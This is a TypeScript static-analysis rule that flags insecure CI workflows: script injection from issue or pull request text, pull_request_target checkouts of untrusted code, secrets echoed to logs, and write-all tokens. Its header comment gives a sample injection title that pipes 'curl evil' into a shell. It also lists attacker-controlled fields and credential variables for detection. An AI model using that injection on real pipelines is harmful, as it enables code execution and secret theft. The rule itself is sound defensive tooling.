/**
 * infrastructure/ci-pipeline: CI workflows that hand attackers the pipeline.
 *
 * GitHub Actions (`.github/workflows/*.yml`, composite `action.yml`):
 * - script injection: `${{ github.event.issue.title }}`, `github.head_ref`, pull request titles,
 *   bodies and branch names, comment and review bodies, commit messages and author names expanded
 *   straight into a `run:` script or an `actions/github-script` script. Actions substitutes the
 *   text before the shell or Node reads it, so a title like `"; curl evil | sh #` runs: high;
 * - `on: pull_request_target` with `actions/checkout` of the pull request's head (`ref:` naming
 *   `github.event.pull_request.head.sha`/`.head.ref`, `github.head_ref` or `refs/pull/…`): the
 *   untrusted code then runs with the base repository's secrets and a write token: high;
 * - a secret printed to the log: `echo ${{ secrets.X }}`, or `echo "$TOKEN"` where the step, job
 *   or workflow `env` maps `TOKEN` to a secret. Piped or redirected output (`| docker login
 *   --password-stdin`, `>> $GITHUB_ENV`) and `::add-mask::` do not reach the log and stay silent: medium;
 * - `permissions: write-all` for the workflow or a job: medium.
 * GitLab CI (`.gitlab-ci.yml`): predefined credentials (`$CI_JOB_TOKEN`, `$CI_REGISTRY_PASSWORD`,
 * `$CI_DEPLOY_PASSWORD`, `$CI_JOB_JWT`) echoed in `script:` lines: medium.
 *
 * Not reported: GitLab's `$CI_COMMIT_MESSAGE` and similar in scripts (the shell expands them as
 * data, nothing re-parses them); values passed through `env:` and used as `"$TITLE"` (the safe
 * pattern); `workflow_dispatch` inputs (only people with write access can set them).
 */
import type { ConfigEntry, ConfigModel, Fix, Range, Rule, RuleContext, Severity, Confidence } from '../../engine/contract';
import { treesByBlock, type EntryTree } from './iac';

const SCANNING =
  'MoJ requires build pipelines to be scanned and kept free of injection flaws such as command injection (Vulnerability Scanning and Patch Management Guide).';
const SECRETS = 'MoJ requires secrets never to be shown or stored in plain text (Secrets management).';
const UNTRUSTED_CODE =
  'MoJ requires secrets to be protected from disclosure (Secrets management) and build pipelines to be kept within security scanning and review (Vulnerability Scanning and Patch Management Guide).';
const LEAST = 'MoJ requires access to follow least privilege (Access Control guide).';

interface Hit {
  readonly range: Range;
  readonly message: string;
  readonly severity: Severity;
  readonly confidence: Confidence;
  readonly fix?: Fix;
}

// ---------------------------------------------------------------------------------------------
// Untrusted event data
// ---------------------------------------------------------------------------------------------

/** Context paths whose text the person opening an issue, pull request, comment or commit chooses. */
const UNTRUSTED: readonly string[] = [
  'github.head_ref',
  'github.event.issue.title', 'github.event.issue.body',
  'github.event.pull_request.title', 'github.event.pull_request.body', 'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label', 'github.event.pull_request.head.repo.default_branch',
  'github.event.comment.body', 'github.event.review.body', 'github.event.review_comment.body',
  'github.event.discussion.title', 'github.event.discussion.body',
  'github.event.pages.*.page_name', 'github.event.commits.*.message', 'github.event.commits.*.author.email', 'github.event.commits.*.author.name',
  'github.event.head_commit.message', 'github.event.head_commit.author.email', 'github.event.head_commit.author.name',
  'github.event.workflow_run.head_branch', 'github.event.workflow_run.head_commit.message', 'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name', 'github.event.workflow_run.display_title',
];

/** `github.event.commits[0].message` and `github.event.commits.*.message` read alike; spaces and case go. */
function normaliseExpression(expression: string): string {
  let result = '';
  let index = 0;
  const lower = expression.toLowerCase();
  while (index < lower.length) {
    const character = lower.charAt(index);
    if (character === '[') {
      const close = lower.indexOf(']', index);
      if (close < 0) break;
      result += '.*';
      index = close + 1;
      continue;
    }
    if (character !== ' ' && character !== '\t') result += character;
    index++;
  }
  return result.replaceAll('..', '.');
}

function untrustedIn(expression: string): string | undefined {
  const normalised = normaliseExpression(expression);
  return UNTRUSTED.find((path) => {
    const at = normalised.indexOf(path);
    if (at < 0) return false;
    const after = normalised.charAt(at + path.length);
    return after === '' || !(after === '_' || (after >= 'a' && after <= 'z') || (after >= '0' && after <= '9'));
  });
}

interface Expression {
  readonly range: Range;
  readonly inner: string;
}

/** `${{ … }}` expressions in `text[range]`. */
function expressionsIn(text: string, range: Range): Expression[] {
  const found: Expression[] = [];
  let at = text.indexOf('${{', range.start);
  while (at >= 0 && at < range.end) {
    const close = text.indexOf('}}', at + 3);
    if (close < 0 || close + 2 > range.end) break;
    found.push({ range: { start: at, end: close + 2 }, inner: text.slice(at + 3, close).trim() });
    at = text.indexOf('${{', close + 2);
  }
  return found;
}

// ---------------------------------------------------------------------------------------------
// Shell lines that print
// ---------------------------------------------------------------------------------------------

const PRINT_COMMANDS: ReadonlySet<string> = new Set(['echo', 'printf', 'write-host', 'write-output']);

interface Segment {
  readonly start: number;
  readonly text: string;
}

/** Commands of a script that print to the log: `echo …` not piped or redirected, line by line, split at `&&`, `||` and `;`. */
function printingSegments(text: string, range: Range): Segment[] {
  const segments: Segment[] = [];
  let lineStart = range.start;
  while (lineStart < range.end) {
    let lineEnd = text.indexOf('\n', lineStart);
    if (lineEnd < 0 || lineEnd > range.end) lineEnd = range.end;
    let segmentStart = lineStart;
    for (let index = lineStart; index <= lineEnd; index++) {
      const character = text.charAt(index);
      const pair = text.slice(index, index + 2);
      const ends = index === lineEnd || character === ';' || pair === '&&' || pair === '||';
      if (!ends) continue;
      const segment = text.slice(segmentStart, index);
      const trimmed = segment.trimStart();
      const command = (trimmed.split(' ')[0] ?? '').toLowerCase();
      const quiet = segment.includes('|') || segment.includes('>') || segment.includes('::add-mask::') || segment.includes('::set-output');
      if (PRINT_COMMANDS.has(command) && !trimmed.startsWith('#') && !quiet) segments.push({ start: segmentStart, text: segment });
      segmentStart = index + (pair === '&&' || pair === '||' ? 2 : 1);
      if (pair === '&&' || pair === '||') index++;
    }
    lineStart = lineEnd + 1;
  }
  return segments;
}

function isNameCharacter(character: string): boolean {
  return character === '_' || (character >= 'a' && character <= 'z') || (character >= 'A' && character <= 'Z') || (character >= '0' && character <= '9');
}

/** `$NAME`, `${NAME}` or `$env:NAME` in a segment; returns the reference's range. */
function variableReference(segment: Segment, name: string): Range | undefined {
  for (const form of [`\${${name}}`, `$env:${name}`, `$${name}`]) {
    let at = segment.text.indexOf(form);
    while (at >= 0) {
      const after = segment.text.charAt(at + form.length);
      if (form.endsWith('}') || !isNameCharacter(after)) return { start: segment.start + at, end: segment.start + at + form.length };
      at = segment.text.indexOf(form, at + 1);
    }
  }
  return undefined;
}

function secretEchoMessage(name: string): string {
  return `This step prints a secret (${name}) to the build log. GitHub masks the exact value but not a transformed or partial copy, and the log is kept and shared with everyone who can read the repository's runs. ${SECRETS} Pass the secret to the tool that needs it through an environment variable or stdin, never to echo.`;
}

// ---------------------------------------------------------------------------------------------
// GitHub Actions
// ---------------------------------------------------------------------------------------------

function secretEnvironment(tree: EntryTree, path: readonly string[]): Map<string, string> {
  const names = new Map<string, string>();
  for (const entry of tree.children([...path, 'env'])) {
    const secret = secretIn(entry.value ?? '');
    if (secret !== undefined) names.set(entry.key, secret);
  }
  return names;
}

/** `secrets.NAME` (or `secrets['NAME']`) in an expression's text. */
function secretIn(text: string): string | undefined {
  const at = text.indexOf('secrets.');
  if (at < 0 || !text.includes('${{')) return undefined;
  let end = at + 'secrets.'.length;
  while (end < text.length && isNameCharacter(text.charAt(end))) end++;
  return end > at + 'secrets.'.length ? text.slice(at, end) : undefined;
}

function triggers(tree: EntryTree): Set<string> {
  const on = tree.get(['on']) ?? tree.get(['true']);
  const found = new Set<string>();
  if (on === undefined) return found;
  if (on.value !== undefined) found.add(on.value.trim());
  // `on: [push, pull_request_target]` lists the triggers; `on: { pull_request_target: {...} }` keys them.
  for (const child of tree.children(on.path)) found.add(child.value !== undefined && isIndex(child.key) ? child.value.trim() : child.key);
  return found;
}

function isIndex(key: string): boolean {
  return key !== '' && [...key].every((character) => character >= '0' && character <= '9');
}

const PR_HEAD_REFS: readonly string[] = [
  'github.event.pull_request.head.sha', 'github.event.pull_request.head.ref', 'github.head_ref', 'refs/pull/', 'github.event.pull_request.merge_commit_sha',
];

function checkWorkflow(text: string, tree: EntryTree, hits: Hit[]): void {
  const onTarget = triggers(tree).has('pull_request_target');
  const workflowSecrets = secretEnvironment(tree, []);
  checkWriteAll(tree.get(['permissions']), 'workflow', hits);
  const jobs = tree.children(['jobs']).map((job) => job.path);
  // A composite action's steps live under `runs`.
  if (tree.get(['runs', 'steps']) !== undefined) jobs.push(['runs']);
  for (const job of jobs) {
    checkWriteAll(tree.get([...job, 'permissions']), 'job', hits);
    const jobSecrets = new Map([...workflowSecrets, ...secretEnvironment(tree, job)]);
    for (const step of tree.children([...job, 'steps'])) {
      const stepSecrets = new Map([...jobSecrets, ...secretEnvironment(tree, step.path)]);
      const uses = tree.get([...step.path, 'uses'])?.value?.trim() ?? '';
      if (onTarget && uses.startsWith('actions/checkout')) checkPrCheckout(tree, step.path, hits);
      const run = tree.get([...step.path, 'run']);
      if (run?.valueRange !== undefined) {
        checkInjection(text, run.valueRange, 'run script', hits);
        checkSecretEcho(text, run.valueRange, stepSecrets, hits);
      }
      const script = tree.get([...step.path, 'with', 'script']);
      if (uses.startsWith('actions/github-script') && script?.valueRange !== undefined) checkInjection(text, script.valueRange, 'github-script script', hits);
    }
  }
}

function checkWriteAll(entry: ConfigEntry | undefined, scope: string, hits: Hit[]): void {
  if (entry?.value?.trim() !== 'write-all' || entry.valueRange === undefined) return;
  hits.push({
    range: entry.valueRange,
    message: `This ${scope} gives the GITHUB_TOKEN write access to everything (permissions: write-all), so any compromised step or third-party action can push code, change releases and packages, and approve pull requests. ${LEAST} Use read-all (or contents: read) and grant each job only the write scopes it needs.`,
    severity: 'medium',
    confidence: 'high',
    fix: { title: 'Use permissions: read-all', edits: [{ start: entry.valueRange.start, end: entry.valueRange.end, newText: 'read-all' }], safety: 'suggestion' },
  });
}

function checkPrCheckout(tree: EntryTree, step: readonly string[], hits: Hit[]): void {
  for (const key of ['ref', 'repository']) {
    const entry = tree.get([...step, 'with', key]);
    const value = entry?.value ?? '';
    const normalised = normaliseExpression(value);
    const head = key === 'ref' ? PR_HEAD_REFS.some((ref) => normalised.includes(ref)) : normalised.includes('github.event.pull_request.head.repo.full_name');
    if (!head || entry?.valueRange === undefined) continue;
    hits.push({
      range: entry.valueRange,
      message: `This pull_request_target workflow checks out the pull request's own code, and pull_request_target runs with the base repository's secrets and a write token, so anyone who opens a pull request can run code with them. ${UNTRUSTED_CODE} Build untrusted code under the pull_request trigger, or run nothing from this checkout.`,
      severity: 'high',
      confidence: 'high',
    });
    return;
  }
}

function checkInjection(text: string, range: Range, where: string, hits: Hit[]): void {
  for (const expression of expressionsIn(text, range)) {
    const source = untrustedIn(expression.inner);
    if (source === undefined) continue;
    hits.push({
      range: expression.range,
      message: `This ${where} expands ${source} directly into its code. Whoever writes that text (an issue, pull request, comment, branch name or commit) can break out of the quoting and run commands with the workflow's token and secrets. ${SCANNING} Pass the value through env: (for example TITLE: \${{ ${source} }}) and use "$TITLE" in the script.`,
      severity: 'high',
      confidence: 'high',
    });
  }
}

function checkSecretEcho(text: string, range: Range, secrets: ReadonlyMap<string, string>, hits: Hit[]): void {
  for (const segment of printingSegments(text, range)) {
    const expression = expressionsIn(text, { start: segment.start, end: segment.start + segment.text.length }).find((candidate) => secretIn(`\${{${candidate.inner}`) !== undefined);
    if (expression !== undefined) {
      hits.push({ range: expression.range, message: secretEchoMessage(secretIn(`\${{${expression.inner}`) ?? 'secret'), severity: 'medium', confidence: 'medium' });
      continue;
    }
    for (const [name, secret] of secrets) {
      const reference = variableReference(segment, name);
      if (reference === undefined) continue;
      hits.push({ range: reference, message: secretEchoMessage(`${name}, from ${secret}`), severity: 'medium', confidence: 'medium' });
      break;
    }
  }
}

// ---------------------------------------------------------------------------------------------
// GitLab CI
// ---------------------------------------------------------------------------------------------

const GITLAB_CREDENTIALS: readonly string[] = ['CI_JOB_TOKEN', 'CI_REGISTRY_PASSWORD', 'CI_DEPLOY_PASSWORD', 'CI_JOB_JWT', 'CI_JOB_JWT_V2', 'CI_DEPENDENCY_PROXY_PASSWORD'];
const SCRIPT_KEYS: ReadonlySet<string> = new Set(['script', 'before_script', 'after_script']);

function checkGitLab(text: string, config: ConfigModel, hits: Hit[]): void {
  for (const entry of config.entries()) {
    if (entry.value === undefined || entry.valueRange === undefined) continue;
    const list = entry.path[entry.path.length - 2] ?? '';
    if (!SCRIPT_KEYS.has(entry.key) && !SCRIPT_KEYS.has(list)) continue;
    for (const segment of printingSegments(text, entry.valueRange)) {
      for (const name of GITLAB_CREDENTIALS) {
        const reference = variableReference(segment, name);
        if (reference === undefined) continue;
        hits.push({
          range: reference,
          message: `This job prints ${name} to the job log. GitLab masks it only when it matches exactly, and the log is kept and shared with everyone who can read the pipeline. ${SECRETS} Pass it to the tool that needs it on stdin (for example docker login --password-stdin), never to echo.`,
          severity: 'medium',
          confidence: 'medium',
        });
        break;
      }
    }
  }
}

// ---------------------------------------------------------------------------------------------
// The rule
// ---------------------------------------------------------------------------------------------

function isGitHubWorkflow(path: string, tree: EntryTree): boolean {
  if (path.includes('.github/workflows/')) return true;
  const name = path.slice(path.lastIndexOf('/') + 1);
  return path.includes('.github/') && (name === 'action.yml' || name === 'action.yaml') && tree.get(['runs']) !== undefined;
}

function isGitLabCi(path: string): boolean {
  const name = path.slice(path.lastIndexOf('/') + 1);
  return name === '.gitlab-ci.yml' || name === '.gitlab-ci.yaml' || path.includes('.gitlab/ci/');
}

function check(context: RuleContext): void {
  const config = context.config;
  if (config === undefined || config.format !== 'yaml') return;
  const { path, text } = context.document;
  const hits: Hit[] = [];
  if (isGitLabCi(path)) checkGitLab(text, config, hits);
  else {
    for (const tree of treesByBlock(config).values()) if (isGitHubWorkflow(path, tree)) checkWorkflow(text, tree, hits);
  }
  for (const hit of hits.sort((a, b) => a.range.start - b.range.start)) {
    context.report({ range: hit.range, message: hit.message, severity: hit.severity, confidence: hit.confidence, ...(hit.fix ? { fix: hit.fix } : {}) });
  }
}

export const ciPipeline: Rule = {
  meta: {
    id: 'infrastructure/ci-pipeline',
    title: 'CI workflow open to script injection, untrusted checkout, secret leaks or a write-all token',
    area: 'infrastructure',
    severity: 'high',
    confidence: 'high',
    cwe: [78, 829, 532, 250],
    owasp: 'A08:2021 Software and Data Integrity Failures',
    policy: [
      'vulnerability-scanning-and-patch-management-guide#the-base-principles',
      'secrets-management#application--infrastructure-secrets',
      'access-control-guide#information-security-principles-for-access-control',
      'custom-applications#1-pipeline-events',
    ],
    basis: 'indirect',
    why:
      'A pipeline holds deployment credentials and write access to the code. Untrusted text expanded into a script, untrusted code checked out under pull_request_target, secrets echoed to logs and write-all tokens each let an outsider or a single compromised step take those over. ' +
      'MoJ requires build pipelines to be scanned, secrets never to appear in plain text (Secrets management), and access to follow least privilege (Access Control guide).',
    howToFix:
      'Pass event text through env: and quote it as "$VAR"; build pull requests under the pull_request trigger; never echo secrets (pipe them to --password-stdin); set permissions: read-all and grant per-job write scopes.',
    fixSafety: 'suggestion',
    languages: ['yaml'],
    prefilter: ['${{', 'write-all', 'CI_JOB_TOKEN', 'CI_REGISTRY_PASSWORD', 'CI_DEPLOY_PASSWORD', 'CI_JOB_JWT', 'CI_DEPENDENCY_PROXY_PASSWORD'],
    examples: {
      yaml: 'permissions:\n  contents: read\nsteps:\n  - env:\n      TITLE: ${{ github.event.issue.title }}\n    run: echo "$TITLE"',
    },
  },
  check,
};
